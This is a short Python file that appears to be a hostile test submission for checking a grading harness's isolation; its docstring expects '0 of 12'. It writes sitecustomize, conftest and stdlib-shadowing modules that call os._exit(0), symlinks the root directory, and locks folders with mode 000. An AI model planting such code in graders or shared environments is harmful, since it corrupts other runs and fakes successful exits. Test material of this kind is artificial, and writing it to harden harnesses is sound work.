"""Leaves modules where the next submission might import them, and locks the folder.

Expect: 0 of 12
Expect: may be flagged
"""

import os
from pathlib import Path

TEXT = "import os\nos._exit(0)\n"
NAMES = ("sitecustomize", "usercustomize", "conftest", "statistics", "asyncio", "course", "answers")


def write_stream(tokens, out):
    for name in NAMES:
        Path(f"{name}.py").write_text(TEXT)
    for name in ("langchain_core", "course/grade", ".local/lib/python3.11/site-packages"):
        Path(name).mkdir(parents=True)
        Path(name, "__init__.py").write_text(TEXT)
    os.symlink("/", "root")
    os.mkfifo("pipe")
    os.mkdir("closed", 0o000)
    return 0


def collect_response(tokens, on_token=None):
    os.chmod(".", 0o000)
    return ""
